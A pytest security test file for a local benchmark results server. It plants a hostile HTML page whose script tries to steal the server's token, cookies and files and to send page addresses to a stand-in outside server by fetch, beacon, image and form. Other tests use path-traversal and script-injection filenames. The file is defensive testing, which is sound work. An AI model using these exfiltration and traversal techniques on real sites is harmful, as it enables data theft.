"""A page of somebody else, opened through `yawbench serve`: what its scripts can do there."""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import SimpleNamespace

import pytest

from tests.bench.test_serve import SCENARIO, ask, request_of, serving
from tests.orchestrator.recorded import write
from tests.reports.browser import Browser
from tests.reports.made_up import whole_car
from tests.reports.test_viewer import labelled
from yawbench.bench.server import ResultsServer
from yawbench.reports.viewer import page

HOSTILE = """<!DOCTYPE html><title>a page of results</title>
<iframe name="frame" src="../runs/both.html"></iframe>
<script>
const found = {attempts: 0};
window.found = found;
const told = (name) => (value) => { found[name] = String(value).slice(0, 2000); };
const attempt = (name, make) => {
  found.attempts += 1;
  try { Promise.resolve(make()).then(told(name), (error) => { found[name] = 'no: ' + error; }); }
  catch (error) { found[name] = 'no: ' + error; }
};
const OUT = 'OUTSIDE';
const mine = location.pathname.split('/')[1];
const own = location.origin === 'null' ? location.href.split('/').slice(0, 3).join('/') : location.origin;
const at = (path, token = mine) => own + '/' + token + '/' + path;
const read = async (address, options) => {
  const answer = await fetch(address, options);
  return answer.type + ' ' + answer.status + ' ' + await answer.text();
};
const asScript = (address) => new Promise((resolve, reject) => {
  const script = document.createElement('script');
  script.src = address;
  script.onload = () => resolve('loaded ' + JSON.stringify(window.stolen || ''));
  script.onerror = () => reject(new Error('refused'));
  document.head.append(script);
});
const asImage = (address) => new Promise((resolve, reject) => {
  const image = new Image();
  image.onload = () => resolve('loaded');
  image.onerror = () => reject(new Error('refused'));
  image.src = address;
});
window.yawbenchSide = (key, content) => { window.stolen = content; };
const RUN = JSON.stringify(REQUEST);
found.address = location.href;
found.referrer = document.referrer;
found.name = window.name;
attempt('opener', () => opener && opener.location.href);
attempt('parent', () => (parent === window ? 'none' : parent.location.href));
attempt('frame', () => frames[0].document.body.innerHTML);
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('entries', () => (navigation.entries() || []).map((entry) => entry.url).join());
for (const token of [mine, 'TOKEN']) {
  const kind = token === mine ? 'own' : 'bench';
  attempt(kind + ' index', () => read(at('', token), {credentials: 'include'}));
  attempt(kind + ' bench', () => read(at('bench', token)));
  attempt(kind + ' view', () => read(at('view?run=runs/one', token)));
  attempt(kind + ' run', () => read(at('run', token), {method: 'POST', body: RUN}));
  attempt(kind + ' blind run', () => read(at('run', token), {method: 'POST', body: RUN, mode: 'no-cors'}));
  attempt(kind + ' csv', () => read(at('files/runs/one/results.csv', token)));
  attempt(kind + ' blind csv', () => read(at('files/runs/one/results.csv', token), {mode: 'no-cors'}));
  attempt(kind + ' other data', () => asScript(at('files/runs/data/secret.js', token)));
  attempt(kind + ' other page as script', () => asScript(at('files/runs/both.html', token)));
  attempt(kind + ' record as script', () => asScript(at('files/runs/one/run.json', token)));
  attempt(kind + ' figure', () => asImage(at('files/runs/figure.svg', token)));
}
attempt('itself', () => read(location.href));
attempt('data beside', () => asScript('data/mine.js'));
attempt('outside', () => read(OUT + '/fetch?' + location.href));
attempt('outside blind', () => read(OUT + '/blind?' + location.href, {mode: 'no-cors'}));
attempt('outside image', () => asImage(OUT + '/image?' + location.href));
attempt('outside script', () => asScript(OUT + '/script'));
const refused = () => Promise.reject(new Error('refused'));
attempt('beacon', () => navigator.sendBeacon(OUT + '/beacon', location.href) || refused());
attempt('socket', () => new Promise((resolve, reject) => {
  const socket = new WebSocket(at('', 'TOKEN').replace('http', 'ws'));
  socket.onopen = () => resolve('open');
  socket.onerror = () => reject(new Error('refused'));
}));
attempt('events', () => new Promise((resolve, reject) => {
  const source = new EventSource(OUT + '/events');
  source.onopen = () => resolve('open');
  source.onerror = () => reject(new Error('refused'));
}));
attempt('service worker', () => navigator.serviceWorker.register('data/mine.js'));
attempt('worker', () => new Promise((resolve, reject) => {
  const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
  worker.onmessage = () => resolve('works');
  worker.onerror = () => reject(new Error('refused'));
}));
attempt('window', () => window.open(at('', 'TOKEN')) || refused());
attempt('form', () => {
  const form = document.createElement('form');
  Object.assign(form, {action: OUT + '/form', method: 'POST', target: 'frame'});
  document.body.append(form);
  form.submit();
  return Promise.reject(new Error('nothing was said'));
});
</script>
"""
BROWSER = {"User-Agent": "Mozilla/5.0"}
MAY = {"data beside"}
"""Attempts that a page's own data need."""
SAYS_NOTHING = {"beacon", "own blind csv", "bench blind csv", "own blind run", "bench blind run"}
"""Attempts whose answers a page cannot see, be they given or not; the server's record tells."""


@pytest.fixture
def outside() -> Iterator[SimpleNamespace]:
    """A server of somebody else, and the addresses that were asked of it."""
    asked: list[str] = []

    class Outside(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *arguments: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Outside) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield SimpleNamespace(asked=asked, address=f"http://127.0.0.1:{server.server_port}")
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Results of a run with a page, its data and a figure."""
    place = tmp_path_factory.mktemp("results")
    write(whole_car(), place / "runs" / "one")
    (place / "runs/both.html").write_text(page(labelled(whole_car(), whole_car(2.0))), "utf-8")
    for name in ("runs/data/secret.js", "evil/data/mine.js"):
        (place / name).parent.mkdir(parents=True)
        (place / name).write_text("yawbenchSide('key', 'a secret')")
    (place / "runs/figure.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>')
    return place


@pytest.fixture(scope="module")
def server(folder: Path) -> Iterator[ResultsServer]:
    with serving(folder) as made:
        yield made


def hostile(token: str, outside: str) -> str:
    """Return the page; it is given the bench's token, as if it had learnt it in some way."""
    request = json.dumps(request_of("vehicle.mass=1234"))
    return HOSTILE.replace("TOKEN", token).replace("OUTSIDE", outside).replace("REQUEST", request)


def attempts(chromium: Browser) -> dict[str, str]:
    """Return what the attempts of the hostile page that is shown have found."""
    ready = "Object.keys(window.found || {}).length >= (window.found?.attempts ?? 99) + 4"
    end = time.monotonic() + 30
    while not chromium.run(f"return {ready}") and time.monotonic() < end:
        time.sleep(0.1)
    return chromium.run("return window.found")


def test_a_hostile_page_gets_nothing_but_itself_and_its_data(server, folder, outside, chromium: Browser):
    (folder / "evil/page.html").write_text(hostile(server.token, outside.address), "utf-8")
    kept = {*server.bench._kept}
    chromium.open(Path("/"))
    chromium.driver.get(server.address)
    chromium.run("document.querySelector('a[href=\"files/evil/page.html\"]').click()")
    chromium.wait_for("window.found")
    found = attempts(chromium)
    seen = json.dumps({name: found[name] for name in ("address", "referrer", "name")})
    assert server.token not in seen
    got = {
        name: value
        for name, value in found.items()
        if name not in ("attempts", "address", "referrer", "name")
        and not value.startswith("no: ")
        and value not in ("", "null", "none")
    }
    assert found["data beside"] == 'loaded "a secret"'
    assert got.keys() - SAYS_NOTHING <= MAY, got
    assert found["attempts"] >= 30
    time.sleep(0.5)  # what has been begun may arrive
    assert outside.asked == []
    assert {*server.bench._kept} == kept
    assert len(chromium.driver.window_handles) == 1


@pytest.mark.parametrize("path", ["evil/page.html", "page.html"])
def test_the_token_of_a_page_opens_that_page_and_its_data_alone(server, folder, path):
    (folder / path).write_text("<p>a page")
    status, headers, _ = ask(server, f"files/{path}", **BROWSER)
    assert status == 303
    token = headers["Location"].split("/")[1]
    assert token != server.token and len(token) >= 32
    assert ask(server, f"files/{path}", token=token)[2] == b"<p>a page"
    beside = f"{path.rpartition('/')[0]}/data/mine.js".lstrip("/")
    assert ask(server, f"files/{beside}", token=token)[0] == (200 if path != "page.html" else 404)
    for other in (
        "", "bench", "view?run=runs/one", "block/x", "files/", "files/runs/one/run.json",
        "files/runs/both.html", "files/runs/data/secret.js", "files/runs/figure.svg",
        "files/evil/data/../../runs/one/run.json", "files/evil/data/%2e%2e/%2e%2e/runs/one/run.json",
        "files/data/../runs/one/run.json",
    ):  # fmt: skip
        assert ask(server, other, token=token)[0] in (403, 404), other
    origin = f"http://127.0.0.1:{server.server_port}"
    assert ask(server, "run", method="POST", body=request_of(), token=token, Origin=origin)[0] == 404


def test_a_page_leads_to_another_whose_address_it_does_not_learn(server, folder, chromium: Browser):
    (folder / "evil/page.html").write_text('<a href="../runs/both.html#here">on</a>', "utf-8")
    chromium.open(Path("/"))
    chromium.driver.get(f"{server.address}files/evil/page.html")
    first = chromium.run("return location.href")
    chromium.run("document.querySelector('a').click()")
    chromium.wait_for("document.querySelector('.yv.yv-ready')")
    second = chromium.run("return location.href")
    assert second.endswith("/files/runs/both.html#here")
    assert first.split("/")[3] != second.split("/")[3]
    chromium.driver.back()
    chromium.wait_for("document.querySelector('a')")
    chromium.driver.back()  # to the page before it
    chromium.driver.get(server.address)
    chromium.run("document.querySelector('a[href=\"files/runs/both.html\"]').click()")
    chromium.wait_for("document.querySelector('.yv.yv-ready')")
    chromium.driver.back()
    chromium.wait_for("document.querySelector('form.choice')")
    assert chromium.run("return location.href") == server.address


@pytest.mark.parametrize("site", ["cross-site", "same-site"])
def test_no_other_site_leads_to_the_bench(server, site):
    for path in ("", "bench", "view?run=runs/one", "files/runs/both.html"):
        assert ask(server, path, **{"Sec-Fetch-Site": site})[0] == 403
        own = {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "navigate"}
        assert ask(server, path, **own)[0] in (200, 303)


def test_the_servers_own_pages_can_be_neither_framed_nor_kept_hold_of(server):
    for path in ("", f"bench?scenario={SCENARIO}", "view?run=runs/one"):
        headers = ask(server, path)[1]
        assert headers["X-Frame-Options"] == "DENY"
        assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
        assert headers["Cross-Origin-Resource-Policy"] == "same-origin"
        assert headers["Referrer-Policy"] == "no-referrer"
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]


def test_a_name_that_is_no_utf_8_or_markup_is_listed_and_opened(server, folder):
    names = [b"runs/\xff.html", b"runs/<script>alert(1)<.html", b"runs/a'b\"c.html"]
    for name in names:
        (Path(str(folder).encode().decode()) / name.decode(errors="surrogateescape")).write_text("<p>here")
    text = ask(server, "")[2].decode()
    assert "<script>alert" not in text
    addresses = re.findall(r'href="files/([^"]+)"', text)
    assert len(addresses) >= 1 + len(names)
    for address in addresses:
        status, headers, _ = ask(server, f"files/{address}", **BROWSER)
        assert status == 303
        assert ask(server, headers["Location"], token="")[0] == 200
